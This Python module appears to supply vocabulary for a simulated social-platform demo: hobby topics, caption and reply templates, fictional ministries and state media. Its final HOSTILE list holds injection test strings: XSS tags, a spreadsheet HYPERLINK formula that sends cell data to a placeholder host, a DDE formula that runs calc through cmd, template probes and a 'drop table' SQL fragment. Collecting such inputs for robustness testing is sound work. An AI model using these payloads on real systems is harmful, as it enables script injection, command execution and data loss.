"""The vocabulary of the simulated platform: everyday topics, no real persons, places or parties.

in: nothing; out: word lists; why: a reader of the demo must see at once that a caption is about bread,
and that two captions are the same.
"""

from __future__ import annotations

__all__ = [
    "ADJECTIVES", "CALLS", "ENDINGS", "HEADLINES", "HOSTILE", "MOMENTS", "OPENINGS", "PATTERNS", "REPLIES",
    "STATE_BODIES", "STATE_MEDIA", "TAG_ENDINGS", "TOPICS",
]  # fmt: skip


def _lines(text: str) -> list[str]:
    return text.strip().split("\n")


def _phrases(text: str) -> tuple[str, ...]:
    """Phrases between slashes, over several lines."""
    return tuple(" ".join(phrase.split()) for phrase in text.split("/"))


TOPICS: tuple[tuple[str, str], ...] = tuple(
    (line.partition(": ")[0], line.partition(": ")[2])
    for line in _lines("""
baking: bread crust dough oven flour butter rye loaf pastry yeast bun cake filling icing tray sieve
garden: tomato seed soil compost bean fern hedge pot bulb shovel slug pear rose mulch shed rain
knitting: yarn needle sock scarf stitch pattern wool sweater hat loop button cuff thread blanket row swatch
running: trail hill shoe lap race knee pace river track stretch watch marathon sprint coach rain mile
chess: opening bishop knight clock endgame pawn board rook gambit puzzle fork rating queen blunder club match
pottery: clay kiln glaze bowl wheel mug handle vase slip tile sponge rim teapot crack stamp studio
trains: engine rail platform signal tunnel model table bridge whistle depot ticket cab lever wagon tram guard
birds: heron nest feather owl robin feeder swift marsh binoculars song wren hawk egg reed dawn gull
synths: filter drum bass patch knob sample loop cable reverb chord sequencer beat noise melody speaker tape
camping: tent stove lake pine map lantern boot kettle campfire ridge fog canoe rope star sleeping-bag stream
cycling: chain saddle gravel tyre brake pedal helmet climb puncture wheel spoke valley bell commute frame wind
aquarium: shrimp tank moss filter snail guppy light rock fin algae pump sand leaf bubble glass heater
painting: brush chalk canvas tint sketch palette frame ink shade portrait easel pencil light line wash mural
coffee: bean grinder filter roast cup milk kettle scale espresso crema barista beaker steam shop mill water
climbing: rope chalk ledge wall grip boulder harness anchor crimp shoe route finger belay summit crack pad
woodwork: plane oak chisel joint bench saw clamp varnish shelf dowel plank workshop glue drawer lathe knot
dogs: leash puppy walk ball paw bark park bone trick vet collar fur tail treat basket sofa
sewing: zip hem fabric needle pocket button seam iron pleat denim skirt patch lining thread coat ribbon
astronomy: comet lens moon mirror orbit eclipse mount galaxy filter ring crater tripod nebula night dew planet
boardgames: dice card meeple board rule token tile expansion deck round timer box score solo map turn
""")
)
"""Tag of a community, and the things that it talks about."""

ADJECTIVES: tuple[str, ...] = _phrases("""
brave / mossy / tiny / quiet / golden / lucky / rusty / clever / gentle / wild / sunny / crooked / humble
/ noisy / velvet / honest / stubborn / curious / sleepy / plain / bright / odd / patient / grumpy / modest
/ eager / silver / nimble / sturdy / wooden
""")

MOMENTS: tuple[str, ...] = _phrases("""
this morning / before breakfast / on my lunch break / after work / late at night / on a grey sunday / for
the third time / with my sister / at the weekend / in ten minutes / on a tiny budget / without a plan /
while it rained / between two meetings / for a friend / with borrowed tools / at grandma's place / in one
go / after a long break / for the first time / with the door open / on the balcony / by the river / just
for fun
""")

ENDINGS: tuple[str, ...] = _phrases("""
and it worked / and i regret nothing / so here we are / do not ask how long it took / what would you
change / part two tomorrow / the neighbours clapped / never again / still learning / wait for the end / my
cat disagrees / five stars from me / i owe you a better light / thank you for the tip / tell me your trick
/ almost perfect / it smells great / the second try was worse / you asked and here it is / small wins /
save it for later / sound on please / no filter / i was surprised too / one more and i stop / and now i
need a nap / better than last week / the secret is patience / who else does this / and nobody noticed / it
is a start / worth the mess / next time slower / close enough / that is the whole trick / and yes it is
loud / not sponsored / ask me anything / with love / to be continued
""")

PATTERNS: tuple[str, ...] = (
    "trying the {adj} {a} and a {b} {moment}, {ending}",
    "my {adj} {a} met the {b} {moment}, {ending}",
    "how i fix a {a} with a {adj} {b} {moment}, {ending}",
    "three things about the {a} and one {adj} {b} {moment}, {ending}",
    "a {adj} {a}, a {b} and me {moment}, {ending}",
    "pov you find a {adj} {a} under the {b} {moment}, {ending}",
    "{adj} {a} check: {b} or no {b} {moment}, {ending}",
    "the {a} said no, the {adj} {b} said yes {moment}, {ending}",
    "rating every {a} by its {adj} {b} {moment}, {ending}",
    "do you see the {b} behind this {adj} {a} {moment}, {ending}",
    "day with a {adj} {a} and too much {b} {moment}, {ending}",
    "the {adj} way to a better {a}: more {b} {moment}, {ending}",
)  # fmt: skip

REPLIES: tuple[str, ...] = (
    "that {adj} {a} though, {ending}", "i came for the {a} and stayed for the {adj} {b}, {ending}",
    "where did you get the {b}, mine is {adj}, {ending}", "the {adj} {b} at the end, {ending}",
    "more {a} please and less {adj} {b}, {ending}", "my {a} looks {adj} next to this {b}, {ending}",
    "tried this {adj} {a} {moment}, {ending}", "saw the same {b} {moment} and it was {adj}, {ending}",
)  # fmt: skip

CALLS: tuple[str, ...] = (
    "nobody talks about the {adj} {a} that ends up in every {b} and it is time somebody did",
    "if your {a} costs more than the {adj} {b} was last year you are not alone, look at this",
    "they told us the {adj} {a} was safe and then came the {b}, make up your own mind",
    "copy this: a {adj} {a} for every {b} and we will not be quiet about it",
    "ask yourself who gains when the {a} goes and only the {adj} {b} is left",
    "i did not believe it about the {adj} {a} until i saw the {b} with my own eyes",
    "pass it on before the {adj} {a} and the {b} are gone from every shop in town",
    "one {adj} {a} can change how you see the {b} for ever, watch and share",
)  # fmt: skip
"""Captions that people are asked to copy; with their words they say nothing about any real matter."""

HEADLINES: tuple[str, ...] = (
    "Town fair opens with a {adj} {a} and the largest {b} so far",
    "Makers of the {adj} {a} agree on a standard for the {b}",
    "Museum shows a {adj} {a} next to a forgotten {b}",
    "Prize for the best {a} goes to a {adj} {b}",
    "Study: a {adj} {a} lasts longer than a {b}",
    "Volunteers bring the {adj} {a} and the {b} back to the square",
)  # fmt: skip

OPENINGS: tuple[str, ...] = (
    "Daily",
    "Evening",
    "Morning",
    "Weekly",
    "Coast",
    "Valley",
    "City",
    "Lake",
    "Hill",
    "Harbour",
)

TAG_ENDINGS: tuple[str, ...] = (
    "tips",
    "life",
    "daily",
    "club",
    "fail",
    "art",
    "hack",
    "love",
    "diary",
    "lab",
)

STATE_BODIES: tuple[str, ...] = (
    "Ministry of Bridges", "Ministry of Weather", "Office of Weights and Measures", "Ministry of Harbours",
    "Department of Lighthouses", "Ministry of Letters", "Agency for Rivers", "Ministry of Gardens",
)  # fmt: skip
STATE_MEDIA: tuple[str, ...] = (
    "Vestmark Television",
    "Radio Vestmark",
    "The Vestmark Gazette",
    "Vestmark World",
)

HOSTILE: tuple[str, ...] = (
    "<script>alert('overt')</script>",
    "=HYPERLINK(\"https://example.test/?x=\"&A1,\"open\")",
    "\u202egnisrever\u202c eht",
    "two\nlines, \"quoted\"; and 'more'",
    "<img src=x onerror=alert(1)>&amp;",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "z\u0300\u0301\u0302\u0303\u0304\u0305a\u0300\u0301\u0302\u0303lgo",
    "a\u200bb\u200dc\ufeffd",
    "</td></tr></table>{{ 7*7 }}${7*7}",
    "+49 (0) -- drop table accounts; --",
)  # fmt: skip
"""What people really put into names to break the tools that read them: HTML, formulas, direction marks."""
